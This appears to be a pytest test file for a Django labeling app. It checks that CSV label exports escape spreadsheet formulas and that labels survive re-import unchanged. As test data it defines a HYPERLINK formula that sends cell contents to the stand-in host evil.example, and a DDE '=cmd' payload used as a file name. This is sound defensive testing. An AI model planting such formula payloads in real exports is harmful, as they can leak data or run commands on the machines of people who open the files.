"""Tables that are opened in a spreadsheet run no formulas, and lose nothing on the way back."""

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import example, given
from hypothesis import strategies as st

from labeling.exporting.canonical_text import csv_line, escape_formulas, without_escape
from labeling.importing.save_table import import_labels
from labeling.models import Item, LabelClass
from tests.factories import MakeDataset, assign

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'


@pytest.mark.attack("formulas in spreadsheets")
@example([["'=1+1", "''@x"], ["'-1", "'"]])
@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2), min_size=1))
def test_every_field_comes_back(rows: list[list[str]]) -> None:
    lines = "".join(csv_line(row) for row in rows).encode()
    escaped = list(csv.reader(io.StringIO(escape_formulas(lines).decode(), newline=""), strict=True))
    assert [[without_escape(value) for value in row] for row in escaped] == rows
    for row in escaped:
        for value in row:
            assert not value.startswith(("=", "@", "\t", "\r"))
            assert not value.startswith(("+", "-")) or float(value) is not None


@pytest.mark.parametrize("value", ["-0.5", "+1e-7", "-12", ".5", "-.5e3", "0.25", "cat", "'quoted", "", "a=b"])
def test_numbers_and_usual_texts_stay(value: str) -> None:
    assert escape_formulas(csv_line(["x", value]).encode()) == csv_line(["x", value]).encode()


@pytest.mark.attack("formulas in spreadsheets")
@pytest.mark.django_db
def test_the_page_escapes_and_the_command_does_not(client: Client, make_dataset: Any, tmp_path: Path) -> None:
    dataset = make_dataset(3, classes=("cat", EVIL))
    Item.objects.filter(row=1).update(path="=cmd|' /C calc'!A0.png")
    assign(dataset, [0], LabelClass.objects.get(name="cat"))
    assign(dataset, [1, 2], LabelClass.objects.get(name=EVIL))
    response = client.get("/d/pictures/export.zip")
    page = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    labels = list(csv.DictReader(io.StringIO(page.read("labels.csv").decode())))
    assert [row["label"] for row in labels] == ["cat", f"'{EVIL}", f"'{EVIL}"]
    assert labels[1]["path"] == "'=cmd|' /C calc'!A0.png"
    call_command("export", output=tmp_path / "plain.zip")
    plain = zipfile.ZipFile(tmp_path / "plain.zip").read("labels.csv").decode()
    assert [row["label"] for row in csv.DictReader(io.StringIO(plain))] == ["cat", EVIL, EVIL]
    call_command("export", output=tmp_path / "safe.zip", escape_formulas=True)
    assert zipfile.ZipFile(tmp_path / "safe.zip").read("labels.csv") == page.read("labels.csv")
    assign(dataset, [0, 1, 2], LabelClass.objects.get(name="cat"))
    (tmp_path / "labels.csv").write_bytes(page.read("labels.csv"))
    call_command("import_labels", tmp_path / "labels.csv")
    assert list(Item.objects.order_by("row").values_list("label__name", flat=True)) == ["cat", EVIL, EVIL]


@pytest.mark.django_db
def test_an_apostrophe_of_a_table_that_is_not_escaped_stays(make_dataset: MakeDataset) -> None:
    dataset = make_dataset(3, classes=())
    text = b"path,label\nimage0000.png,'=sum\nimage0001.png,=sum\nimage0002.png,-1.5\n"
    import_labels(dataset, io.BytesIO(text), user=None, create_classes=True)
    assert set(dataset.classes.values_list("name", flat=True)) == {"'=sum", "=sum", "-1.5"}
    other = make_dataset(3, name="other", classes=())
    import_labels(other, io.BytesIO(text.replace(b",=sum", b",'-sum")), user=None, create_classes=True)
    assert set(other.classes.values_list("name", flat=True)) == {"=sum", "-sum", "-1.5"}
